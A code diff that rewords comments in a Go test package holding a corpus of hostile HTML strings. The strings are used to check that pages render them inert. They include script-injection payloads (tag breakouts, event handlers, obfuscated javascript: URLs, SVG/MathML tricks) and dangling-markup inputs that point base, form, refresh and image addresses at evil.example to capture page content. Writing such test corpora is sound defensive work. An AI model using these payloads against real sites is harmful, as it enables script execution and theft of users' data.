@@ -1,12 +1,12 @@
-// Package hostile holds texts that try to run in a page, or to swallow a part of it. It is for tests.
+// Package hostile holds texts that try to run script in a page, or to swallow a part of it. It is for tests.
 //
-// What runs calls the function pwned. A test defines it, puts each text into every field of a page, opens
-// the page in a browser, and sees that it was never called and that the page is whole.
+// A text that runs calls the function pwned. A test defines that function, puts each text into every field of a page, opens the page in a
+// browser, and checks that the function was never called and that the page is whole.
 package hostile
 
 import "slices"
 
-// Texts are all texts, each once.
+// Texts returns all texts, sorted, each once.
 func Texts() []string {
 	var all []string
 	for _, group := range [][]string{elements(), attributes(), addresses, foreign, swallowers, data, programs, letters(), styles, numbers, names, entities, splitters} {
@@ -16,7 +16,7 @@ func Texts() []string {
 	return slices.Compact(all)
 }
 
-// elements break out of what holds them and open something that runs.
+// elements returns texts that close the element around them and open one that runs.
 func elements() (all []string) {
 	ways := []string{"", `">`, `'>`, "</title>", "</textarea>", "-->", "</script>", "</style>", "</noscript>", "]]>", "</h1></main>", "</table>", "</select>"}
 	runners := []string{
@@ -43,7 +43,7 @@ func elements() (all []string) {
 	)
 }
 
-// attributes break out of the value of an attribute.
+// attributes returns texts that break out of the value of an attribute.
 func attributes() (all []string) {
 	handlers := []string{"onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontransitionend", "onpointerrawupdate", "onbeforetoggle"}
 	for i, handler := range handlers {
@@ -54,7 +54,7 @@ func attributes() (all []string) {
 	return append(all, `x" srcset="x 1x" onerror="pwned(30)`, `"/onerror=pwned(31) x=`, "x\"\nonerror\n=\n\"pwned(32)", `" style="animation-name:x" onanimationstart="pwned(33)`, "\" tabindex=1 accesskey=x onclick=pwned(34) \"")
 }
 
-// addresses run when they are followed or loaded.
+// addresses holds URLs that run when they are followed or loaded.
 var addresses = []string{
 	"javascript:pwned(40)", "JaVaScRiPt:pwned(41)", " javascript:pwned(42)", "\x01javascript:pwned(43)", "java\tscript:pwned(44)", "java\nscript:pwned(45)", "java\rscript:pwned(46)",
 	"javascript&colon;pwned(47)", "&#106;avascript:pwned(48)", "&#x6a;avascript&#x3a;pwned(49)", "javascript://x%0apwned(50)", "javascript:/*--></title>*/pwned(51)",
@@ -63,7 +63,7 @@ var addresses = []string{
 	"https:evil.example", "http://127.0.0.1:1@evil.example/", "jar:javascript:pwned(59)!/", "feed:javascript:pwned(60)", "https://evil.example/\"onerror=pwned(61)//", "?\"><script>pwned(62)</script>", "#\"><img src=x onerror=pwned(63)>",
 }
 
-// foreign content: SVG and MathML change how what follows is read.
+// foreign holds SVG and MathML, which change how a browser parses what follows.
 var foreign = []string{
 	"<svg><script>pwned(70)</script></svg>", "<svg><script href=data:,pwned(71) /></svg>", "<svg><animate onbegin=pwned(72) attributeName=x dur=1s></svg>",
 	"<svg><set onbegin=pwned(73) attributeName=x></svg>", "<svg><a xlink:href=javascript:pwned(74)><text y=9>x</text></a></svg>", "<svg><foreignObject><body onload=pwned(75)></foreignObject></svg>",
@@ -73,7 +73,7 @@ var foreign = []string{
 	"<svg><title><style><!--</style><img src=x onerror=pwned(84)>--></title></svg>", "<noscript><p title='</noscript><img src=x onerror=pwned(85)>'>",
 }
 
-// swallowers open what nobody closes.
+// swallowers holds texts that open an element or a comment that nothing closes.
 var swallowers = []string{
 	"<!--", "<!-- -- >", "<!", "<?", "</", "<", "<a", "<a href=\"", "<img src='//evil.example/?", "<title>", "<textarea>", "<style>", "<script>", "<plaintext>", "<xmp>", "<noscript>", "<noembed>", "<noframes>", "<template>",
 	"<iframe>", "<select>", "<option>", "<table>", "<table><tr><td>", "<frameset>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example/>", "<button form=x formaction=//evil.example>",
